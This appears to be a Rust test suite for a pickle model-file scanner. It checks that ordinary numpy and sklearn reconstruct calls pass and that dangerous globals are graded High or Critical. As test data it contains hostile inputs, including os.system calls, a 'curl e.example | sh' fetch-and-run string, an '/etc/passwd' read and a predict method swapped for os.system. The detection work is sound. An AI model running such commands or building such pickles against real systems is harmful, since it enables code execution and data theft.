//! What the vocabulary allows, what it does not, and how that is graded.

use modelward_rules::judge;
use modelward_schema::{Action, Code, Facts, Finding, Location, Severity, Term, Via};

fn text(text: &str) -> Term {
    Term::Str {
        text: text.to_owned(),
        len: text.len() as u64,
    }
}

fn global(name: &str) -> Term {
    Term::Global(name.to_owned())
}

fn made(target: &str, args: Vec<Term>) -> Term {
    Term::Result {
        target: target.to_owned(),
        args,
    }
}

fn fact(action: Action, target: &str, args: Vec<Term>) -> Code {
    Code {
        via: Via::Pickle,
        action,
        target: target.to_owned(),
        written: None,
        args,
        kwargs: Vec::new(),
        computed: false,
        reached: true,
        count: 1,
        at: Location::bytes("model.pkl", 0, 1),
    }
}

fn judged(code: Vec<Code>) -> Vec<Finding> {
    judge(&Facts {
        code,
        ..Facts::default()
    })
}

fn worst(code: Vec<Code>) -> Option<Severity> {
    judged(code).first().map(|finding| finding.severity)
}

fn call(target: &str, args: Vec<Term>) -> Option<Severity> {
    worst(vec![fact(Action::Call, target, args)])
}

#[test]
fn what_serializers_write_is_no_finding() {
    let array = || {
        made(
            "numpy._core.multiarray._reconstruct",
            vec![global("numpy.ndarray")],
        )
    };
    for (target, args) in [
        ("collections.OrderedDict", vec![]),
        (
            "copy_reg._reconstructor",
            vec![
                global("sklearn.svm.SVC"),
                global("builtins.object"),
                Term::None,
            ],
        ),
        (
            "numpy.dtype",
            vec![text("f8"), Term::Bool(false), Term::Bool(true)],
        ),
        (
            "sklearn.tree._tree.Tree",
            vec![Term::Int(4), array(), Term::Int(1)],
        ),
        (
            "sklearn.tree.tree.Tree",
            vec![Term::Int(4), array(), Term::Int(1)],
        ),
        (
            "sklearn.neighbors.kd_tree.newObj",
            vec![global("sklearn.neighbors.kd_tree.KDTree")],
        ),
        (
            "datetime.datetime",
            vec![Term::Bytes {
                hex: "07e4".into(),
                len: 10,
            }],
        ),
        ("pathlib.PosixPath", vec![text("/data"), text("train.csv")]),
        (
            "transformers.trainer_utils.IntervalStrategy",
            vec![text("steps")],
        ),
        ("torch.nn.modules.loss.SomeNewLoss", vec![Term::Float(0.5)]),
        (
            "sklearn.exceptions.NotFittedError",
            vec![text("this is not fitted yet")],
        ),
    ] {
        let findings = judged(vec![fact(Action::Call, target, args)]);
        assert!(findings.is_empty(), "{target}: {findings:?}");
    }
}

#[test]
fn functions_that_no_serializer_calls_are_high_whether_they_are_known_or_not() {
    for target in [
        "statistics.quantiles",
        "string.capwords",
        "builtins.print",
        "numpy.apply_along_axis",
        "sklearn.utils.validation.check_array",
        "evil.boot",
        "__main__.boot",
    ] {
        assert_eq!(
            call(target, vec![text("echo pwned")]),
            Some(Severity::High),
            "{target}"
        );
    }
    assert_eq!(
        call("os.system", vec![text("id")]),
        Some(Severity::Critical)
    );
}

#[test]
fn an_allowed_name_is_not_allowed_with_other_arguments() {
    let plain = made("numpy.dtype", vec![text("f8")]);
    let object = made("numpy.dtype", vec![text("O8")]);
    let bytes = || Term::Bytes {
        hex: "00".into(),
        len: 8,
    };
    assert_eq!(
        call("numpy._core.multiarray.scalar", vec![plain, bytes()]),
        None
    );
    assert_eq!(
        call("numpy._core.multiarray.scalar", vec![object, bytes()]),
        Some(Severity::High)
    );
    assert_eq!(call("builtins.type", vec![Term::None]), None);
    assert_eq!(
        call("builtins.type", vec![text("X"), Term::None, Term::None]),
        Some(Severity::High)
    );
    assert_eq!(
        call(
            "torch._tensor._rebuild_from_type_v2",
            vec![
                global("torch.hub.load"),
                global("torch.Tensor"),
                Term::None,
                Term::None
            ]
        ),
        Some(Severity::Critical)
    );
}

#[test]
fn an_unknown_class_is_medium_as_a_value_and_high_with_a_command() {
    let color = |args| call("acme.Color", args);
    assert_eq!(color(vec![Term::Int(1)]), Some(Severity::Medium));
    assert_eq!(color(vec![text("red")]), Some(Severity::Medium));
    assert_eq!(
        color(vec![text("curl e.example | sh")]),
        Some(Severity::High)
    );
    assert_eq!(color(vec![text("/etc/passwd")]), Some(Severity::High));
    assert_eq!(
        call("acme.CommandRunner", vec![text("id")]),
        Some(Severity::High)
    );
    assert_eq!(
        worst(vec![fact(Action::New, "acme.Net", vec![])]),
        Some(Severity::Medium)
    );
    assert_eq!(
        worst(vec![fact(Action::New, "trch.nn.Linear", vec![])]),
        Some(Severity::High)
    );
}

#[test]
fn a_lookup_is_not_told_again_when_it_is_called_or_blamed() {
    let import = |name| fact(Action::Import, name, vec![]);
    let findings = judged(vec![
        import("os.system"),
        fact(Action::Call, "os.system", vec![text("id")]),
    ]);
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(
        findings[0].message,
        "loading it runs the command os.system(\"id\")"
    );
    let mapped = Term::List {
        items: vec![text("id")],
        more: 0,
    };
    let findings = judged(vec![
        import("os.system"),
        fact(
            Action::Call,
            "functools.reduce",
            vec![global("os.system"), mapped],
        ),
    ]);
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(worst(vec![import("os.system")]), Some(Severity::Critical));
}

#[test]
fn what_loaders_skip_is_one_step_less_severe_and_says_so() {
    let mut hidden = fact(Action::Call, "os.system", vec![text("id")]);
    hidden.reached = false;
    let findings = judged(vec![hidden]);
    assert_eq!(findings[0].severity, Severity::High);
    assert!(
        findings[0]
            .message
            .starts_with("the part that loaders skip")
    );
}

#[test]
fn state_on_an_instance_is_data_and_on_a_global_is_not() {
    let state = || Term::Dict {
        items: vec![(text("alpha"), Term::Float(1.0))],
        more: 0,
    };
    let ridge = "sklearn.linear_model._ridge.Ridge";
    let build = || fact(Action::Build, ridge, vec![state()]);
    assert_eq!(worst(vec![fact(Action::New, ridge, vec![]), build()]), None);
    assert_eq!(worst(vec![build()]), Some(Severity::Critical));
    let replaced = Term::Dict {
        items: vec![(text("predict"), global("os.system"))],
        more: 0,
    };
    assert_eq!(
        worst(vec![
            fact(Action::New, ridge, vec![]),
            fact(Action::Build, ridge, vec![replaced])
        ]),
        Some(Severity::Critical)
    );
}

#[test]
fn many_findings_of_one_rule_are_counted_and_not_listed() {
    let code = (0..1000)
        .map(|n| fact(Action::Call, &format!("evil.boot{n}"), vec![]))
        .collect();
    let findings = judged(code);
    assert_eq!(findings.len(), 201);
    assert!(
        findings
            .iter()
            .any(|f| f.message == "800 more of this kind are not listed")
    );
}
